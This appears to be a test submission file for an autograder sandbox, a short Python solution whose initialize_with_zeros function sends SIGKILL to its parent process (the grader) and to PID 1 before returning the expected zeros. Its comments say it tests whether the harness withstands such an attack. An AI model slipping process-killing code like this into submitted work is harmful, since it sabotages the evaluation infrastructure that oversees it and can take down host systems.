# tries: kill the process that it was forked from
# expects: points = 18, sigmoid full, initialize_with_zeros full
# at limits: no score

import os
import signal

import numpy as np


def sigmoid(z):
    return 1 / (1 + np.exp(-z))


def initialize_with_zeros(dim):
    for victim in (os.getppid(), 1):
        try:
            if victim > 0:
                os.kill(victim, signal.SIGKILL)
        except OSError:
            pass
    return np.zeros((dim, 1)), 0.0
